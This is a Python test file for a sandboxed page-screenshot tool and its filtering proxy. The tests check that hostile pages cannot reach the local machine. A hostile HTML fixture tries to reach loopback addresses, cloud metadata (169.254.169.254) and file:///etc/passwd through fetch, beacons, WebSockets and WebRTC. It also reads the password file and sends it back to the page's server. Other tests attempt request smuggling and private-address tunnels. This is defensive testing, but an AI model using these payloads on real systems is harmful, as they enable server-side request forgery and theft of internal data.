"""Pictures of pages, also of pages that would rather reach into the machine: nothing but the public web is reached.

The page stands at 127.0.0.2, which the tests let the proxy reach; what it tries to reach stands at 127.0.0.1, which
they do not. The positive control lets it, and then it is reached.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import io
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from evidence_world import FILLER, QUICK, Authority, World, page, serving
from PIL import Image
from test_evidence_timestamp import TimeAuthority

from needs import missing
from prongsai.evidence.apart import Reader
from prongsai.evidence.fetch import Fetcher
from prongsai.evidence.network import Network
from prongsai.evidence.preserve import picture as camera_room
from prongsai.evidence.preserve.copies import Copies, Picture
from prongsai.evidence.preserve.picture import Camera, Frame
from prongsai.evidence.preserve.proxy import PageLimits, Proxy
from prongsai.evidence.preserve.timestamp import Authority as Stamper
from prongsai.evidence.preserve.timestamp import verified
from prongsai.evidence.visit import Keeping, Tools, Visit

HOME, SECRET = "127.0.0.2", "127.0.0.1"
SHORT = Frame(load=4, settle=0.5, seconds=20)


async def names(host: str, port: int) -> Sequence[str]:
    """Addresses are themselves; every other name is the page's own server."""
    return [host] if host.replace(".", "").isdigit() or ":" in host else [HOME]


def network(*reachable: str, tls=None) -> Network:
    parts = {"resolve": names, "may_connect": lambda address: address in reachable, "may_use_port": lambda port: True}
    return Network(**parts, **({"tls": tls} if tls else {}))


@pytest.fixture(scope="module")
def can_take() -> None:
    """Whether Chromium runs here as an ordinary user in its sandbox; says why not."""
    with serving(address=HOME) as world:
        found = asyncio.run(Camera(network(HOME), frame=SHORT).take(world.serve("/", page("x"))))
    if found.png is None:
        missing(found.missing.en)


@pytest.fixture
def site() -> Iterator[World]:
    with serving(address=HOME) as world:
        yield world


def take(camera: Camera, url: str) -> Picture:
    return asyncio.run(camera.take(url))


def size(found: Picture) -> tuple[int, int]:
    assert found.missing is None, found.missing
    return Image.open(io.BytesIO(found.png)).size


def test_a_whole_page_in_thai(can_take, site: World) -> None:
    camera = Camera(network(HOME), frame=SHORT)
    url = site.serve("/a", page("<p style='font-size:60px'>สวัสดี</p>" + "<p>x</p>" * 100))
    found = take(camera, url)
    assert size(found)[0] == 1280
    assert size(found)[1] > 2000
    boxes = take(
        camera, site.serve("/b", page("<p style='font-size:60px'>\ue000\ue001\ue002\ue003</p>" + "<p>x</p>" * 100))
    )
    ink = [
        sum(Image.open(io.BytesIO(one.png)).convert("L").crop((0, 0, 400, 160)).histogram()[:100])
        for one in (found, boxes)
    ]
    assert ink[0] > 500
    assert ink[0] != ink[1]


def test_an_endless_page_is_cut(can_take, site: World) -> None:
    url = site.serve("/a", page("<div style='height:90000px;width:9000px'>x</div>"))
    assert size(take(Camera(network(HOME), frame=SHORT), url)) == (2560, SHORT.longest)


HOSTILE = """<h1>hostile</h1><img src="http://{secret}/img"><iframe src="http://{secret}/frame"></iframe>
<iframe src="file:///etc/passwd"></iframe><link rel=stylesheet href="http://localhost:{port}/css">
<link rel=prefetch href="http://{secret}/prefetch"><link rel=dns-prefetch href="http://{secret}">
<img src="http://169.254.169.254/latest/meta-data/"><img src="http://[::1]:{port}/v6"><img src="ftp://{secret}/ftp">
<object data="http://{secret}/object"></object><video src="http://{secret}/video"></video>
<form id=f method=post action="http://{secret}/form"></form>
<script>
const tell = (what) => fetch('/told?' + encodeURIComponent(what));
for (const u of ['http://{secret}/fetch', 'http://127.0.0.1:22/', 'http://127.1:{port}/short', 'http://0.0.0.0:{port}/zero'])
  fetch(u, {{mode: 'no-cors'}});
fetch('file:///etc/passwd').then((r) => r.text()).then((t) => tell('FILE ' + t), () => 0);
navigator.sendBeacon('http://{secret}/beacon', 'x');
for (const u of ['ws://{secret}/ws', 'wss://{secret}/wss']) {{
  const s = new WebSocket(u); s.onopen = () => tell('WS ' + u);
}}
new EventSource('http://{secret}/events');
try {{ new Worker(URL.createObjectURL(new Blob(["fetch('http://{secret}/worker')"]))); }} catch (e) {{}}
window.open('http://{secret}/window'); window.open('file:///etc/passwd');
const turn = {{urls: 'turn:{stun}?transport=tcp', username: 'a', credential: 'b'}};
const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{stun}'}}, turn]}});
p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));
p.onicecandidate = (e) => e.candidate && tell('ICE ' + e.candidate.candidate);
alert('dialog'); setTimeout(() => document.getElementById('f').submit(), {leaves});
tell('RAN');
</script>"""


class Listener:
    """A UDP and a TCP socket on which nobody should call."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self.udp, self.tcp = (socket.socket(type=kind) for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM))
        self.tcp.bind((SECRET, 0))
        self.port = self.tcp.getsockname()[1]
        self.udp.bind((SECRET, self.port))
        self.tcp.listen()
        threading.Thread(target=self._hear, args=(self.udp.recvfrom, 10, "udp"), daemon=True).start()
        threading.Thread(target=self._hear, args=(self.tcp.accept, None, "tcp"), daemon=True).start()

    def _hear(self, wait: Callable, value, name: str) -> None:
        try:
            while True:
                wait(value) if value else wait()
                self.calls.append(name)
        except OSError:
            return

    def close(self) -> None:
        self.udp.close()
        self.tcp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    one = Listener()
    yield one
    one.close()


def hostile(site: World, secret: World, listener: Listener, leaves: float) -> str:
    """The address of the page. ``leaves``: after how many seconds it sends its form, and with that ends itself."""
    place, stun = f"{SECRET}:{secret.port}", f"{SECRET}:{listener.port}"
    site.serve("/told", b"")
    return site.serve("/a", page(HOSTILE.format(secret=place, port=secret.port, stun=stun, leaves=leaves * 1000)))


def test_a_hostile_page_reaches_nothing_of_this_machine(
    can_take, site: World, world: World, listener: Listener
) -> None:
    camera = Camera(network(HOME), frame=Frame(load=4, settle=2.5, seconds=20))
    size(take(camera, hostile(site, world, listener, leaves=1.5)))
    told = [path for _, path in site.asked if path.startswith("/told")]
    assert "/told?RAN" in told  # its scripts did run
    assert [one for one in told if "RAN" not in one] == []
    assert world.asked == []
    assert listener.calls == []
    assert {host.split(":")[0] for host in camera.seen.hosts} == {"www.example.test"}
    refused = {code for _, code in camera.seen.refused}
    assert "address_private" in refused
    asked = " ".join(target for target, _ in camera.seen.refused)
    for one in ("/img", "/frame", "/fetch", "/beacon", "/form", "169.254.169.254"):
        assert one in asked
    assert any(target == f"{SECRET}:{world.port}" for target, _ in camera.seen.refused)  # the tunnel for ws


def test_positive_control_the_same_page_reaches_what_the_proxy_lets_it(
    can_take, site: World, world: World, listener: Listener
) -> None:
    take(Camera(network(HOME, SECRET), frame=SHORT), hostile(site, world, listener, leaves=60))
    reached = {path for _, path in world.asked}
    assert {"/img", "/frame", "/fetch", "/beacon", "/ws"} <= reached


def test_positive_control_webrtc_calls_where_it_is_not_forbidden(
    can_take, site: World, world: World, listener: Listener, monkeypatch
) -> None:
    options = tuple(one for one in camera_room._OPTIONS if "webrtc" not in one)
    monkeypatch.setattr(camera_room, "_OPTIONS", options)
    take(Camera(network(HOME, SECRET), frame=SHORT), hostile(site, world, listener, leaves=60))
    assert "udp" in listener.calls


def test_a_redirect_into_the_machine_is_not_followed(can_take, site: World, world: World) -> None:
    url = site.redirect("/a", f"http://{SECRET}:{world.port}/inside")
    camera = Camera(network(HOME), frame=SHORT)
    take(camera, url)
    assert world.asked == []
    assert ("address_private") in {code for _, code in camera.seen.refused}


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "chrome://version/", "javascript:alert(1)", "http://u:p@a.test/"]
)
def test_only_web_addresses_are_opened(url: str) -> None:
    found = take(Camera(network(HOME)), url)
    assert found.missing.code == "picture.refused"


def test_a_page_that_never_rests_ends_with_the_time(can_take, site: World) -> None:
    url = site.serve("/a", page("<script>setTimeout(() => { for (;;) {} }, 50)</script>"))
    found = take(Camera(network(HOME), frame=replace(SHORT, seconds=6)), url)
    assert found.missing.code == "picture.time"
    assert "เวลาที่กำหนด" in found.missing.th


def test_a_page_may_load_only_so_much(can_take, site: World) -> None:
    site.serve("/big", os.urandom(3_000_000), "image/png")
    url = site.serve("/a", page("<script>for (let i = 0; i < 40; i++) fetch('/big?' + i)</script>" + FILLER))
    camera = Camera(network(HOME), PageLimits(connections=12, down=5_000_000), SHORT)
    size(take(camera, url))
    assert len(camera.seen.hosts) <= 12
    assert camera.seen.down < 6_000_000
    assert {"page_large", "page_many"} & {code for _, code in camera.seen.refused}
    assert site.most_busy <= 2


def processes(word: str) -> list[Path]:
    found = []
    for one in Path("/proc").iterdir():
        try:
            if one.name.isdigit() and word.encode() in (one / "cmdline").read_bytes():
                found.append(one)
        except OSError:
            continue
    return found


@pytest.fixture
def place(monkeypatch) -> Iterator[Path]:
    """A folder for temporary files of this test alone, which another user may enter."""
    with tempfile.TemporaryDirectory(prefix="picture-test-") as folder:
        Path(folder).chmod(0o755)
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield Path(folder)


def test_it_runs_as_an_ordinary_user_in_its_sandbox_and_leaves_nothing(can_take, site: World, place: Path) -> None:
    """Looks at the running processes: no root, no ``--no-sandbox``, renderers under a system call filter."""
    seen: list[tuple[str, str, str]] = []

    def look(handler) -> None:
        for one in processes(str(place)):
            status = dict(line.split(":\t", 1) for line in (one / "status").read_text().splitlines() if ":\t" in line)
            seen.append(((one / "cmdline").read_bytes().decode(), status["Uid"].split()[0], status["Seccomp"]))
        site.serve("/late", b"")
        site.answers["/late"](handler)

    site.answers["/late"] = look
    size(take(Camera(network(HOME), frame=SHORT), site.serve("/a", page("<img src=/late>"))))
    assert seen
    assert not [command for command, uid, _ in seen if "--no-sandbox" in command or uid == "0"]
    renderers = [filtered for command, _, filtered in seen if "--type=renderer" in command]
    assert renderers
    assert set(renderers) == {"2"}
    assert list(place.iterdir()) == []
    deadline = time.monotonic() + 10
    while processes(str(place)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert processes(str(place)) == []


def test_without_chromium_it_says_so(monkeypatch) -> None:
    monkeypatch.setattr(camera_room, "_PLACES", ())
    monkeypatch.setattr(shutil, "which", lambda name: None)
    found = take(Camera(network(HOME)), "http://www.example.test/")
    assert found.missing.code == "picture.no_browser"
    assert "Chromium" in found.missing.th


@pytest.mark.parametrize("user", ["root", "nobody-of-this-name"])
def test_root_without_an_ordinary_user_takes_no_picture(monkeypatch, user: str) -> None:
    monkeypatch.setattr(os, "getuid", lambda: 0)
    found = take(Camera(network(HOME), user=user), "http://www.example.test/")
    assert found.missing.code == "picture.root"


def test_without_a_sandbox_it_says_so(monkeypatch) -> None:
    """A program that ends as Chromium does where it can have no sandbox."""
    with tempfile.TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        program = Path(folder) / "chromium"
        program.write_text("#!/bin/sh\necho 'FATAL: No usable sandbox! You are probably using …' >&2\nexit 1\n")
        program.chmod(0o755)
        monkeypatch.setattr(camera_room, "_PLACES", (str(program),))
        found = take(Camera(network(HOME)), "http://www.example.test/")
    assert found.missing.code == "picture.no_sandbox"


def test_the_launcher_never_stays_root(tmp_path) -> None:
    if os.getuid() != 0:
        pytest.skip("only where the tests run as root")
    launch = Path(camera_room.__file__).with_name("launch.py")
    pipes = os.pipe()
    asked = ["python3", "-I", str(launch), *map(str, pipes), "", "/usr/bin/id"]
    done = subprocess.run(asked, pass_fds=pipes, check=False, capture_output=True, text=True)
    assert done.returncode != 0
    assert "never runs as root" in done.stderr


def test_a_visit_keeps_the_page_its_picture_and_its_stamp(can_take, site: World, world: World, tmp_path: Path) -> None:
    """All together: fetched, read apart, pictured, kept, stamped by an authority that the tests start."""
    tsa, copies = TimeAuthority(), Copies(tmp_path / "copies")

    def stamp(handler) -> None:
        body = tsa.answer(handler.rfile.read(int(handler.headers["Content-Length"])))
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    world.answers["/tsa"] = stamp
    authority = Stamper(f"http://{SECRET}:{world.port}/tsa", tsa.roots)
    keeping = Keeping(copies, Camera(network(HOME), frame=SHORT), authority)

    async def work(reader: Reader) -> Visit:
        async with Fetcher(QUICK, network(HOME)) as fetcher:
            return await Tools(fetcher, reader, keeping).visit(site.serve("/a", page(FILLER)))

    with Reader() as reader:
        visit = asyncio.run(work(reader))
    manifest = copies.manifest(visit.copy)
    assert manifest.notes == ()
    assert copies.picture(manifest).startswith(b"\x89PNG")
    assert verified(copies.token(manifest), manifest.warc, tsa.roots) <= dt.datetime.now(dt.UTC)


# --- the proxy, asked by another visitor than Chromium


def through(proxy_network: Network, work: Callable[[Proxy], None], limits: PageLimits | None = None) -> Proxy:
    async def run() -> Proxy:
        async with Proxy(proxy_network, limits) as proxy:
            await asyncio.to_thread(work, proxy)
            return proxy

    return asyncio.run(run())


def test_a_tunnel_for_https_leads_to_the_vetted_address(tmp_path) -> None:
    authority = Authority()
    with serving(authority.server(tmp_path, "www.example.test", 90), HOME) as site:
        site.serve("/", page("x"))

        def work(proxy: Proxy) -> None:
            with httpx.Client(proxy=f"http://127.0.0.1:{proxy.port}", verify=authority.trusted()) as client:
                assert client.get(site.url()).status_code == 200
                with pytest.raises(httpx.ProxyError):
                    client.get(f"https://{SECRET}:{site.port}/")

        proxy = through(network(HOME), work)
        assert proxy.seen.hosts == [f"www.example.test:{site.port}"]
        assert proxy.seen.refused == [(f"{SECRET}:{site.port}", "address_private")]


def test_a_tunnel_resolves_once() -> None:
    """A name that turns to another address after the look is never asked again."""
    asked: list[str] = []

    async def turning(host: str, port: int) -> list[str]:
        asked.append(host)
        return [HOME] if len(asked) == 1 else [SECRET]

    with serving(address=HOME) as site:
        site.serve("/", b"fine")

        def work(proxy: Proxy) -> None:
            with httpx.Client(proxy=f"http://127.0.0.1:{proxy.port}") as client:
                assert client.get(site.url()).content == b"fine"

        through(replace(network(HOME), resolve=turning), work)
    assert asked == ["www.example.test"]


@pytest.mark.parametrize(
    ("target", "code"),
    [
        ("a.example.test:22", "url_port"),
        ("u:p@a.example.test:443", "url_credentials"),
        ("127.0.0.1:443", "address_private"),
    ],
)
def test_tunnels_that_are_refused(target: str, code: str) -> None:
    def work(proxy: Proxy) -> None:
        assert raw(proxy, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode()).startswith(b"HTTP/1.1 403")

    proxy = through(replace(Network(), resolve=names), work)
    assert [found for _, found in proxy.seen.refused] == [code]


def raw(proxy: Proxy, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as one:
        one.sendall(data)
        found = b""
        while part := one.recv(10_000):
            found += part
    return found


@pytest.mark.parametrize("data", [b"GET / HTTP/1.1\r\n\r\n", b"nonsense\r\n\r\n", b"\xff\xfe\r\n\r\n", b"A" * 200_000])
def test_what_is_no_request_to_a_proxy(data: bytes) -> None:
    def work(proxy: Proxy) -> None:
        with suppress(ConnectionResetError):
            assert raw(proxy, data) == b"" or raw(proxy, data).startswith(b"HTTP/1.1 403")

    assert through(network(HOME), work).seen.hosts == []


def test_a_second_request_on_a_connection_goes_nowhere_else(site: World, world: World) -> None:
    """Two requests in one go: both end at the host that was vetted, whatever the second names."""
    site.serve("/a", b"fine")
    second = f"GET http://{SECRET}:{world.port}/secret HTTP/1.1\r\nHost: x\r\n\r\n"

    def work(proxy: Proxy) -> None:
        raw(proxy, f"GET {site.url('/a')} HTTP/1.1\r\nHost: www.example.test\r\n\r\n{second}".encode())

    proxy = through(network(HOME), work)
    assert world.asked == []
    assert proxy.seen.hosts == [f"www.example.test:{site.port}"]


def test_headers_between_visitor_and_proxy_stay_there(site: World) -> None:
    heard: list[str] = []

    def answer(handler) -> None:
        heard.extend(handler.headers)
        handler.send_response(204)
        handler.end_headers()

    site.answers["/a"] = answer
    head = (
        f"GET {site.url('/a')} HTTP/1.1\r\nHost: evil\r\nProxy-Authorization: x\r\nProxy-Connection: keep-alive\r\n\r\n"
    )
    through(network(HOME), lambda proxy: raw(proxy, head.encode()))
    assert sorted(heard) == ["Connection", "Host"]
